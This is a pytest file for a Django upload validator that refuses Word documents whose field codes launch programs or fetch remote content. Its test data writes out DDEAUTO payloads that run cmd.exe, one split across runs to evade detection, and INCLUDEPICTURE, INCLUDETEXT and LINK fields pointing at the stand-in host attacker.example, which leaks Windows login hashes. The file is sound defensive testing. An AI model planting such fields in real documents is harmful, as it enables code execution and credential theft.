r"""A Word document's field codes are read too: a field is written in the text, not in the
relationships. `DDEAUTO` starts a program when the document opens; `INCLUDEPICTURE`,
`INCLUDETEXT`, `LINK` with a share's path (`\\host\share`) hands the reader's Windows login
hash to that host. Both are refused, however the instruction is split over runs; a picture
pasted from a web page or an e-mail, a path on the author's own computer, and ordinary fields
pass."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from campaign import uploads
from tests.campaign.upload_files import CONTENT_TYPES_XML, refusal, zip_bytes

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def field(*pieces):
    """A complex field whose instruction is written in `pieces`, one run each."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kết quả</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def document(*paragraphs):
    body = "".join(f"<w:p>{paragraph}</w:p>" for paragraph in paragraphs)
    xml = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return zip_bytes([("[Content_Types].xml", CONTENT_TYPES_XML), ("word/document.xml", xml)])


def accepted(content):
    return uploads.validate_upload(SimpleUploadedFile("kh.docx", content)) == uploads.DOCX


@pytest.mark.parametrize(
    "pieces",
    [
        [r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '],
        [" DD", "EAUTO ", r'c:\\windows\\system32\\cmd.exe "/k calc"'],  # split over runs
        [' dde "cmd" "/c calc"'],
    ],
)
def test_a_field_that_starts_a_program_is_refused(pieces):
    assert "DDE" in refusal("kh.docx", document(field(*pieces)))


@pytest.mark.parametrize(
    "instruction",
    [
        r'INCLUDEPICTURE "\\\\attacker.example\\share\\a.png" \d',
        r'INCLUDETEXT "\\\\attacker.example\\share\\a.docx"',
        r'LINK Excel.Sheet.12 "\\\\attacker.example\\share\\b.xlsx" "Sheet1!R1C1" \a',
        r'INCLUDEPICTURE "file://attacker.example/share/a.png"',
    ],
)
def test_a_field_fetching_from_a_share_is_refused(instruction):
    text = refusal("kh.docx", document(field(instruction)))
    assert "liên kết tới nội dung bên ngoài" in text and "attacker.example" in text


def test_a_simple_field_is_read_too():
    simple = (
        '<w:fldSimple w:instr=" DDEAUTO cmd.exe &quot;/c calc&quot;">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple>"
    )
    assert "DDE" in refusal("kh.docx", document(simple))


def test_a_picture_pasted_from_a_web_page_and_ordinary_fields_pass():
    assert accepted(
        document(
            field(r'INCLUDEPICTURE "https://congdoan.vn/anh/hoi-nghi.jpg" \* MERGEFORMATINET '),
            field(" PAGE ", r"\* MERGEFORMAT"),
            field(' HYPERLINK "https://thuvienphapluat.vn/" '),
            field(" DATE ", r'\@ "dd/MM/yyyy"'),
            # Copied from an e-mail, or linked on the author's own computer: no network.
            field(r'INCLUDEPICTURE "cid:image001.jpg@01D9A1B2.C3D4E5F0" \* MERGEFORMATINET'),
            field(r'INCLUDEPICTURE "C:\\Users\\vanthu\\Pictures\\anh.png" \d'),
            field(r'LINK Excel.Sheet.12 "D:\\So lieu\\2025.xlsx" "Sheet1!R1C1" \a'),
        )
    )
